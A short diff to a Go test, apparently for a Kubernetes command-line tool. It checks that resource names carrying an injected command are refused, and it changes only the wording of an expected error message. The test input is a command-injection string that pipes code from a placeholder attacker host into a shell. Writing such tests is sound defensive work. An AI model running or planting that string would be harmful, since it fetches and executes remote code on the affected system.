@@ -98,7 +98,7 @@ func TestNamesInCommands(t *testing.T) {
 	h.inNames = "; curl evil.example | sh"
 	for command, args := range asked(t, h) {
 		got := call(t, "", args...)
-		const says = "no API server of Kubernetes takes"
+		const says = "no API server of Kubernetes accepts"
 		if command != "addons" && (got.Code != exitRefused || got.Out != "" || !strings.Contains(got.Err, says)) {
 			t.Errorf("%s: got %+v", command, got)
 		}
